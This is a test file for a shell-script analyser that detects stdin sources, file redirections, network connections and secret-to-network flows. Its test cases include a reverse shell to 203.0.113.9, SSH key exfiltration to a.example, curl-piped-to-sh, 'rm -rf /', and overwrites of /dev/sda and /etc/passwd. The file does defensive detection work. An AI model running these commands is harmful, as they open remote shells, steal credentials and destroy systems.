import { describe, expect, it } from 'vitest'
import { readShell } from './read-shell.js'

const inputOf = (code: string): unknown => readShell(code).ran.at(-1)

describe('what a program reads', () => {
  it.each([
    ['echo hi | sh', 'hi\n'],
    ['sh <<< hi', 'hi\n'],
    ['sh <<E\nhi\nE', 'hi\n'],
    ['x=1; sh <<E\n$x\nE', '1\n'],
    ["x=1; sh <<'E'\n$x\nE", '$x\n'],
    ['{ echo a; echo b; } | sh', 'a\nb\n'],
    ['(printf a; printf b) | sh', 'ab'],
    ['echo aGk= | base64 -d | sh', 'hi'],
    ['echo hi > f; sh < f', 'hi\n'],
    ['echo a > f; echo b >> f; sh < f', 'a\nb\n'],
    ['cat <<E > f\nhi\nE\ncat f | sh', 'hi\n'],
    ['f() { echo $1; }; f hi | sh', 'hi\n'],
    ['for i in a b; do echo $i; done | sh', 'a\nb\n'],
    ['curl http://a.example | sh', '…'],
    ['sh < unknown', '…'],
    ['sh', null],
  ])('%s', (code, input) => {
    expect(inputOf(code)).toMatchObject({ words: 'sh', input, piped: input !== null })
  })
})

describe('redirections', () => {
  it.each([
    ['echo a > f', 'write', 'f'],
    ['echo a >> ~/.bashrc', 'append', '~/.bashrc'],
    ['> f', 'truncate', 'f'],
    [': > f', 'write', 'f'],
    ['echo a >| f', 'write', 'f'],
    ['x &> f', 'write', 'f'],
    ['x 2> f', 'write', 'f'],
    ['x >& f', 'write', 'f'],
    ['{ x; y; } > f', 'write', 'f'],
    ['for i in a; do x; done >> f', 'append', 'f'],
    ['echo a > /dev/sda', 'device_write', '/dev/sda'],
    ['sort < f', 'read', 'f'],
    ['cd /etc; echo a > passwd', 'write', '/etc/passwd'],
    ['d=/etc; echo a > $d/passwd', 'write', '/etc/passwd'],
    ['exec 3> f; echo a >&3', 'write', 'f'],
  ])('%s', (code, operation, path) => {
    expect(readShell(code).found.files).toContainEqual(expect.objectContaining({ operation, path }))
  })

  it.each([
    'x > /dev/null',
    'x 2>&1',
    'x >&2',
    'x > /dev/stderr',
    'x < /dev/null',
    'x 2>/dev/null >/dev/tty',
    'x 2>&-',
    '[[ a > b ]]',
    '(( 1 > 2 ))',
  ])('no file: %s', (code) => {
    expect(readShell(code).found.files).toEqual([])
  })

  it('a path of the network is a connection', () => {
    const { found, ran } = readShell('bash -i >& /dev/tcp/203.0.113.9/443 0>&1')
    expect(found.network).toContainEqual(expect.objectContaining({ host: '203.0.113.9', port: 443, upload: true }))
    expect(ran).toMatchObject([{ words: 'bash -i', piped: true }])
  })

  it('what is written can be run later', () => {
    expect(readShell('printf "rm -rf /" > a.sh; source a.sh').ran.map(({ words }) => words)).toContain('rm -rf /')
  })

  it('what is read from a key goes where it is sent', () => {
    const { found } = readShell('cat ~/.ssh/id_rsa > /dev/tcp/a.example/80')
    expect(found.flows).toContainEqual(expect.objectContaining({ source: 'secret', sink: 'network' }))
  })

  it('variables for one command are its environment', () => {
    expect(readShell('A=1 B=$(echo 2) x').ran.at(-1)).toMatchObject({ environment: { A: '1', B: '2' } })
  })
})
